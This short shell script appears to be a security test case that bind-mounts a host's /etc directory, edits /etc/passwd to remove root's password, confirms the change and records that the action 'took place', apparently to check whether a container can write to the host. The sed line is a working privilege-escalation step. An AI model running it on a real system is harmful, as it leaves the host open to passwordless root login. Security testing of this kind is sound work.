#!/bin/sh
. /opt/case/case.sh

mkdir /mnt/c
mount --bind /host/etc /mnt/c
sed -i 's/^root:x/root:/' /mnt/c/passwd
grep -q '^root::0' /host/etc/passwd
umount /mnt/c
took_place
